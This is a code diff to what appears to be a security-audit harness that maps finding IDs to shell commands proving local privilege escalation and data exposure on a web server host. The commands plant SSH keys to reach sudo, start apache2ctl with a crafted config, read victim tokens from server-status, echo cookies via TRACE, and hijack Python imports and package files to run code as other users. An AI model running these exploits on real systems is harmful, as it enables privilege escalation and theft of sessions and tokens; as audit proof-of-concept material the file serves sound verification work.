@@ -62,7 +62,7 @@ EFFECT = {
     "p05": "SHELL:" + APPW + "ssh-keygen -q -t ed25519 -N '' -f /tmp/p05key; " + APPW + "sh -c 'cat /tmp/p05key.pub > " + D + "/keys/{login}; chmod 644 " + D + "/keys/{login}'; echo -n 'the app user key (in its own data) logs in as {login}, sudo says: '; ssh -i /tmp/p05key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR {login}@127.0.0.1 sudo -n id",
     "p06": "SHELL:" + piped("p06", "/tmp/p06.conf") + APPW + "sh -c 'printf \"ServerRoot /etc/apache2\\nInclude /etc/apache2/mods-enabled/mpm_event.load\\nListen 127.0.0.1:8098\\nPidFile /tmp/p06.pid\\n\" >> /tmp/p06.conf'; cat /tmp/p06.conf; " + APPW + "sudo -n /usr/sbin/apache2ctl -f /tmp/p06.conf -k start; sleep 2; echo -n 'the app user sudo apache2ctl ran its piped log as: '; cat /tmp/p06-ran-as",
     "p07": "SHELL:" + "echo -n 'the app user su root -c id: '; " + APPW + "su root -c id </dev/null",
-    "p08": "SHELL:" + f"curl -s -o /dev/null {H}/?token=VICTIM-TOKEN-123; curl -s -H 'Host: localhost' 'http://{IP}/server-status' | grep -o 'GET /?token=[A-Z0-9-]*' | head -1 | sed 's/^/the public reads from server-status: /'",
+    "p08": "SHELL:" + f"sleep 2; curl -s -o /dev/null {H}/?token=VICTIM-TOKEN-123; curl -s -H 'Host: localhost' 'http://{IP}/server-status' | grep -o 'GET /[?]token=[A-Z0-9-]*' | head -1 | sed 's/^/the public reads from server-status: /'",
     "p09": "SHELL:" + f"curl -s -X TRACE -H 'Host: localhost' -H 'Cookie: session=VICTIM-SESSION' http://{IP}/ | grep -i -m1 cookie | sed 's/^/TRACE echoes: /'",
     "p10": "SHELL:" + "p=$(pgrep -u www-data -x apache2 | head -1); echo \"an Apache child (pid $p) $(grep Gid /proc/$p/status)\"; echo -n 'as www-data with that group, lines of the app config readable: '; setpriv --reuid www-data --regid {app_group} --clear-groups cat {config} | wc -l",
     "p11": "SHELL:" + APPW + "sh -c 'printf \"import os\\ndef application(e, s):\\n    s(\\\"200 OK\\\", [])\\n    return [b\\\"uid=%d\\\" %% os.getuid()]\\n\" > " + D + "/ops.wsgi'; " + f"echo -n 'GET /ops ran the app user file in Apache own child as: '; curl -s {H}/ops; echo",
@@ -92,8 +92,9 @@ EFFECT.update({
     "m4": "SHELL:" + APPW + "sh -c 'echo \"import os; open(\\\"/tmp/m4-ran-as\\\", \\\"w\\\").write(str(os.getuid())); from importlib import import_module\" > /opt/metrics/socketserver.py'; " + RESTART.format(env="") + "echo -n 'the restarted exporter imported the app user module as uid: '; cat /tmp/m4-ran-as",
 })
 PRE = {
-    "p02": "printf '\\nopen(\"/tmp/p02-loaded\", \"a\").write(__file__ + \"\\\\n\")\\n' >> {prev_site}/{package}/__init__.py",
-    "p20": "printf '\\nopen(\"/tmp/p20-loaded\", \"a\").write(\"live code: \" + __file__ + \"\\\\n\")\\n' >> {site}/{package}/__init__.py",
+    # (the releases' .pyc are unchecked-hash: a marker in a .py needs its .pyc gone to be the code that runs)
+    "p02": "printf '\\nopen(\"/tmp/p02-loaded\", \"a\").write(__file__ + \"\\\\n\")\\n' >> {prev_site}/{package}/__init__.py; rm -f {prev_site}/{package}/__pycache__/__init__.*",
+    "p20": "printf '\\nopen(\"/tmp/p20-loaded\", \"a\").write(\"live code: \" + __file__ + \"\\\\n\")\\n' >> {site}/{package}/__init__.py; rm -f {site}/{package}/__pycache__/__init__.*",
     "p12": APPW + "sh -c 'echo \"import os; open(\\\"/tmp/p12-ran-as\\\", \\\"a\\\").write(str(os.getuid()) + \\\" \\\")\" > " + D + "/lib/sitecustomize.py'",
     "p22": f"for i in 1 2 3; do curl -s -o /dev/null {H}/; done; curl -s {H}/; echo ' <- before the rollback'",
 }
